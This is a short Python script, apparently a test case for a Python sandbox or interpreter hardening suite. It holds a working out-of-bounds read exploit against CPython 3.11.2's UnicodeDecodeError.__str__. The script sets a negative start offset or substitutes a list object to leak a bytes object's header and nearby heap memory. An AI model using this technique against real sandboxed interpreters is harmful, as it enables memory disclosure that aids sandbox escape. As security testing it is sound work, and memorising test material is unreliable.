# technique: UnicodeDecodeError.__str__ reads PyBytes_AS_STRING(object)[start] with start and object as the user set them (no range or type check in 3.11.2): a negative start reads the bytes object's own header (type pointer), a list as object reads past the list struct (heap pointers)
# expect: any
e = UnicodeDecodeError("utf-8", b"x", 0, 1, "r")
b = b"0123456789abcdef"

def byte_at(obj, off):
    e.object = obj
    e.start = off
    e.end = off + 1
    s = str(e)
    if "byte 0x" not in s:
        return None
    return int(s.split("byte 0x")[1][:2], 16)

leak = []
try:
    for i in range(-32, 0):           # 32 bytes before the payload: refcnt, ob_type, ob_size, hash
        v = byte_at(b, i)
        if v is not None:
            leak.append(v)
except (ValueError, TypeError, IndexError, SandboxError):
    leak = []
if leak:
    hdr = bytes(leak)
    raise RuntimeError("out-of-bounds read: bytes header %s (ob_type=%#x, ob_size=%d)" % (
        hdr.hex(), int.from_bytes(hdr[8:16], "little"), int.from_bytes(hdr[16:24], "little")))

lst = [None] * 64
leak = []
try:
    for i in range(0, 48):            # read past a list struct: allocated, then the next heap chunk
        v = byte_at(lst, i)
        if v is not None:
            leak.append(v)
except (ValueError, TypeError, IndexError, SandboxError):
    leak = []
if leak:
    raise RuntimeError("out-of-bounds read past a list object: %s" % bytes(leak).hex())
